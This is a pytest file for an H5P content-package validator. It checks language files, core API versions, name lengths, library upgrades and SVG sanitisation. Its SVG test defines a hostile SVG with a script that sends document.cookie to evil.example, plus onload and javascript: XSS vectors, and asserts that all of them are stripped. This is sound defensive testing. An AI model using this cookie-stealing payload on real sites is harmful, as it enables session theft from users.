"""Validation as H5P core does it: language files, semantics.json, the core API
the player implements, names the storage can hold, SVG in content, and library
versions already stored (reused, ignored, upgraded). Plus the verdicts of the
reference validator (the H5P Node.js library's PackageValidator) on its own
test packages."""

import json
from pathlib import Path

import pytest

from content.h5p import LibraryRef, PackageInvalid, extract_package, validate_package
from content.h5p.libraries import library_from_json
from content.h5p.validation import PLAYER_CORE_API, PLAYER_VERSION, LibraryFate
from tests.conftest import REPO
from tests.fixtures.h5p import builder

SCORE_DEMO = LibraryRef("Balai.ScoreDemo", 1, 0)
FOLDER = "Balai.ScoreDemo-1.0"
LUMI = (
    Path(__file__).resolve().parents[1]
    / "fixtures/h5p/real/lumieducation-h5p-nodejs-library"
)


def demo_with(packages: Path, changes: dict, name: str = "changed") -> Path:
    entries = builder.score_demo_entries()
    for entry, value in changes.items():
        if value is None:
            entries.pop(entry)
        else:
            entries[entry] = value
    return builder.write_package(packages / f"{name}.h5p", entries)


def library_json(**changes) -> dict:
    data = json.loads(
        builder._as_bytes(builder.score_demo_entries()[f"{FOLDER}/library.json"])
    )
    data.update(changes)
    return data


def refused(path: Path, **options) -> PackageInvalid:
    with pytest.raises(PackageInvalid) as caught:
        validate_package(path, **options)
    return caught.value


# Language files and semantics.json ------------------------------------------------


def test_language_files_must_be_valid_json(packages):
    path = demo_with(
        packages,
        {
            f"{FOLDER}/language/id.json": '{"semantics": []}',
            f"{FOLDER}/language/fr.json": '{"semantics": [',
        },
    )

    error = refused(path)

    assert error.codes == {"invalid-language-json"}
    assert error.messages == [
        f"Berkas bahasa {FOLDER}/language/fr.json bukan JSON yang sah."
    ]


@pytest.mark.parametrize("name", ["XXX!.json", "id.txt.json.js", "sub/id.json", "id"])
def test_language_files_must_be_named_after_a_language(packages, name):
    if not name.endswith((".json", ".js")):
        name += ".json.txt"
    path = demo_with(packages, {f"{FOLDER}/language/{name}": "{}"})

    error = refused(path)

    assert error.codes == {"invalid-language-file"}


def test_good_language_files_are_accepted_and_not_stored(packages, storage):
    path = demo_with(
        packages,
        {
            f"{FOLDER}/language/id.json": "{}",
            f"{FOLDER}/language/pt-br.json": "{}",
            f"{FOLDER}/semantics.json": "[]",
        },
    )

    result = extract_package(
        path, storage=storage, activity_key="a1", stored_libraries=()
    )

    assert not any("/language/" in name for name in result.files_written)


def test_semantics_json_must_be_valid_json(packages):
    error = refused(demo_with(packages, {f"{FOLDER}/semantics.json": "[{"}))

    assert error.codes == {"invalid-json"}


# The core API ----------------------------------------------------------------------


def test_the_player_version_is_the_one_the_core_api_was_read_from():
    installed = json.loads(
        (REPO / "node_modules" / "h5p-standalone" / "package.json").read_text()
    )
    wanted = json.loads((REPO / "package.json").read_text())["dependencies"]

    assert installed["version"] == PLAYER_VERSION
    assert wanted["h5p-standalone"].lstrip("^~=") == PLAYER_VERSION
    assert PLAYER_CORE_API == (1, 28)


@pytest.mark.parametrize(
    ("core_api", "accepted"),
    [
        (None, True),
        ({}, True),
        ({"majorVersion": 1, "minorVersion": 0}, True),
        ({"majorVersion": 1, "minorVersion": 28}, True),
        ({"majorVersion": 1, "minorVersion": 29}, False),
        ({"majorVersion": 2, "minorVersion": 0}, False),
        ({"majorVersion": 99, "minorVersion": 0}, False),
    ],
)
def test_a_library_needing_a_newer_core_api_is_refused(packages, core_api, accepted):
    data = library_json(coreApi=core_api)
    if core_api is None:
        data.pop("coreApi")
    path = demo_with(packages, {f"{FOLDER}/library.json": data})

    if accepted:
        assert validate_package(path).main_library == SCORE_DEMO
        return
    error = refused(path)
    assert error.codes == {"core-api-unsupported"}
    wanted = "{majorVersion}.{minorVersion}".format(**core_api)
    assert error.messages == [
        f"Pustaka Balai.ScoreDemo 1.0 membutuhkan API inti H5P versi {wanted}, "
        "sedangkan pemutar di platform ini mendukung sampai versi 1.28. Ekspor "
        "ulang konten dengan versi pustaka yang lebih lama, atau minta "
        "administrator memperbarui pemutar H5P."
    ]


def test_h5p_json_asking_for_a_newer_core_api_is_refused(packages):
    h5p = json.loads(builder._as_bytes(builder.score_demo_entries()["h5p.json"]))
    h5p["coreApi"] = {"majorVersion": 99, "minorVersion": 0}

    error = refused(demo_with(packages, {"h5p.json": h5p}))

    assert error.codes == {"core-api-unsupported"}


def test_a_malformed_core_api_is_an_invalid_field(packages):
    path = demo_with(
        packages,
        {f"{FOLDER}/library.json": library_json(coreApi={"majorVersion": "x"})},
    )

    assert refused(path).codes == {"invalid-field"}


# Names ----------------------------------------------------------------------------


def test_a_library_name_longer_than_storage_allows_is_refused_cleanly(packages):
    name = "Balai." + "A" * 247  # 253 characters: Machine.Name-1.0 has 257
    entries = builder.score_demo_entries()
    data = library_json(machineName=name)
    entries = {
        key.replace(FOLDER, name): value
        for key, value in entries.items()
        if not key.startswith(FOLDER + "/library.json")
    }
    entries[f"{name}/library.json"] = data
    h5p = json.loads(builder._as_bytes(entries["h5p.json"]))
    h5p["mainLibrary"] = name
    h5p["preloadedDependencies"][0]["machineName"] = name
    entries["h5p.json"] = h5p
    path = builder.write_package(packages / "long.h5p", entries)

    error = refused(path)

    assert error.codes == {"name-too-long"}
    assert "255 byte" in error.messages[0]


def test_a_file_name_longer_than_255_bytes_is_refused(packages):
    path = demo_with(packages, {f"content/images/{'é' * 130}.png": builder.png_pixel()})

    assert refused(path).codes == {"name-too-long"}


def test_a_path_longer_than_storage_allows_is_refused(packages):
    deep = "/".join(["folder" * 20] * 8)
    path = demo_with(packages, {f"content/{deep}/x.png": builder.png_pixel()})

    assert refused(path).codes == {"path-too-long"}


# SVG ------------------------------------------------------------------------------

HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<a href="javascript:alert(1)"><rect width="10" height="10" fill="#1b7a4a"/></a>
<image href="https://evil.example/track.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
</svg>"""


def test_svg_in_content_is_stored_without_scripts(packages, storage):
    path = demo_with(packages, {"content/images/logo.svg": HOSTILE_SVG})

    result = extract_package(
        path, storage=storage, activity_key="a1", stored_libraries=()
    )

    stored = storage.open("h5p/content/a1/content/images/logo.svg").read().decode()
    assert result.package.sanitised_files == ("content/images/logo.svg",)
    assert "<rect" in stored  # the drawing stays
    for hostile in ("script", "onload", "javascript:", "evil.example", "foreignObject"):
        assert hostile not in stored


def test_an_svg_that_cannot_be_read_is_refused(packages):
    error = refused(demo_with(packages, {"content/images/x.svg": "<svg><unclosed"}))

    assert error.codes == {"invalid-svg"}


def test_svg_icons_of_libraries_are_left_as_they_are(packages, storage):
    icon = '<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:red}</style></svg>'
    path = demo_with(packages, {f"{FOLDER}/icon.svg": icon})

    extract_package(path, storage=storage, activity_key="a1", stored_libraries=())

    assert storage.open(f"h5p/libraries/{FOLDER}/icon.svg").read().decode() == icon


def test_a_real_package_with_a_script_in_its_svg_is_sanitised(storage):
    result = extract_package(
        LUMI / "xss-svg.h5p", storage=storage, activity_key="a1", stored_libraries=()
    )

    stored = storage.open("h5p/content/a1/content/images/xss.svg").read().decode()
    assert result.package.sanitised_files == ("content/images/xss.svg",)
    assert "<script" not in stored and "alert" not in stored


# Libraries already stored ---------------------------------------------------------


def stored(patch: int) -> dict:
    return {SCORE_DEMO: library_from_json(library_json(patchVersion=patch))}


def test_a_bundled_library_lacking_its_js_is_accepted_when_that_version_is_stored(
    packages,
):
    path = demo_with(packages, {f"{FOLDER}/scripts/balai-score-demo.js": None})

    assert refused(path).codes == {"missing-library-file"}
    info = validate_package(path, stored_libraries=stored(0))
    assert info.uses(LibraryFate.IGNORED)[0].ref == SCORE_DEMO
    assert SCORE_DEMO not in info.libraries  # nothing of it is written


def test_a_package_without_the_library_folder_reuses_the_stored_version(packages):
    entries = {
        k: v
        for k, v in builder.score_demo_entries().items()
        if not k.startswith(FOLDER)
    }
    path = builder.write_package(packages / "content-only.h5p", entries)

    assert refused(path).codes == {"missing-library"}
    info = validate_package(path, stored_libraries=stored(0))
    assert [(u.ref, u.fate) for u in info.library_uses] == [
        (SCORE_DEMO, LibraryFate.REUSED)
    ]


@pytest.mark.parametrize(
    ("stored_patch", "fate"),
    [(0, LibraryFate.UPGRADED), (1, LibraryFate.IGNORED), (5, LibraryFate.IGNORED)],
)
def test_a_newer_patch_upgrades_the_stored_library_an_older_one_is_ignored(
    packages, stored_patch, fate
):
    path = demo_with(packages, {f"{FOLDER}/library.json": library_json(patchVersion=1)})

    info = validate_package(path, stored_libraries=stored(stored_patch))

    use = info.library_uses[0]
    assert (use.fate, use.patch, use.stored_patch) == (fate, 1, stored_patch)
    assert (SCORE_DEMO in info.libraries) == (fate == LibraryFate.UPGRADED)


def test_an_upgrade_replaces_the_files_in_place_and_lists_the_obsolete_ones(
    packages, storage
):
    first = extract_package(
        demo_with(packages, {f"{FOLDER}/old.css": ".old{}"}, name="old"),
        storage=storage,
        activity_key="a1",
        stored_libraries=(),
    )
    newer_script = (
        "/* patch 1 */ "
        + builder.score_demo_entries()[f"{FOLDER}/scripts/balai-score-demo.js"]
    )
    path = demo_with(
        packages,
        {
            f"{FOLDER}/library.json": library_json(patchVersion=1),
            f"{FOLDER}/scripts/balai-score-demo.js": newer_script,
        },
        name="new",
    )

    second = extract_package(
        path,
        storage=storage,
        activity_key="a2",
        stored_libraries={SCORE_DEMO: first.package.libraries[SCORE_DEMO]},
    )

    root = f"h5p/libraries/{FOLDER}"
    assert second.upgraded_libraries == (SCORE_DEMO,)
    assert storage.open(f"{root}/scripts/balai-score-demo.js").read().decode() == (
        newer_script
    )
    assert json.loads(storage.open(f"{root}/library.json").read())["patchVersion"] == 1
    assert second.obsolete_files == (f"{root}/old.css",)
    assert not any(name.startswith(root) for name in second.files_written)


def test_a_failed_upgrade_puts_the_stored_files_back(packages, storage, monkeypatch):
    first = extract_package(
        builder.build_score_demo(packages),
        storage=storage,
        activity_key="a1",
        stored_libraries=(),
    )
    root = f"h5p/libraries/{FOLDER}"
    before = {
        name: storage.open(name).read()
        for name in (f"{root}/library.json", f"{root}/scripts/balai-score-demo.js")
    }
    path = demo_with(
        packages,
        {
            f"{FOLDER}/library.json": library_json(patchVersion=1),
            "content/images/broken.png": b"x",
        },
        name="new",
    )
    real_save = storage.save

    def failing_save(name, content, *args, **kwargs):
        if name.endswith("broken.png"):
            raise OSError("disk full")
        return real_save(name, content, *args, **kwargs)

    monkeypatch.setattr(storage, "save", failing_save)

    with pytest.raises(OSError, match="disk full"):
        extract_package(
            path,
            storage=storage,
            activity_key="a2",
            stored_libraries={SCORE_DEMO: first.package.libraries[SCORE_DEMO]},
        )

    for name, content in before.items():
        assert storage.open(name).read() == content
    assert not storage.exists("h5p/content/a2/h5p.json")


# The reference validator's own packages --------------------------------------------

# Verdicts of PackageValidator.test.ts (H5P Node.js library) for its packages,
# and the problem we refuse each with.
REFERENCE_VERDICTS = [
    ("valid2.h5p", None),
    ("valid3-3-images.h5p", None),
    ("corrupt_archive.h5p", "not-zip"),
    ("broken-h5p-json.h5p", "invalid-json"),
    ("broken-content-json.h5p", "invalid-json"),
    ("invalid-h5p-json-schema.h5p", "missing-field"),
    ("malformed-library-directory.h5p", "library-folder-mismatch"),
    ("invalid-library-json.h5p", "missing-field"),
    ("missing-preloaded-js.h5p", "missing-library-file"),
    ("invalid-library-directory-name.h5p", "library-folder-mismatch"),
    ("invalid-language-file-json.h5p", "invalid-language-json"),
    ("2-invalid-libraries.h5p", "invalid-language-file"),
]


@pytest.mark.parametrize(
    ("name", "code"), REFERENCE_VERDICTS, ids=[v[0] for v in REFERENCE_VERDICTS]
)
def test_the_reference_validators_packages_get_its_verdicts(name, code):
    path = LUMI / "validator" / name

    if code is None:
        assert validate_package(path).main_library
    else:
        assert code in refused(path).codes


def test_the_reference_validators_core_version_case(packages):
    # Its test runs a core of API 1.1 against a library needing 1.19.
    path = LUMI / "validator" / "invalid-core-version.h5p"

    assert validate_package(path).main_library  # our player implements 1.28
    assert refused(path, core_api=(1, 1)).codes == {"core-api-unsupported"}


def test_the_reference_validator_skips_an_installed_library():
    path = LUMI / "validator" / "missing-preloaded-js.h5p"

    info = validate_package(path, stored_libraries={("H5P.GreetingCard", 1, 0)})

    assert info.uses(LibraryFate.IGNORED)
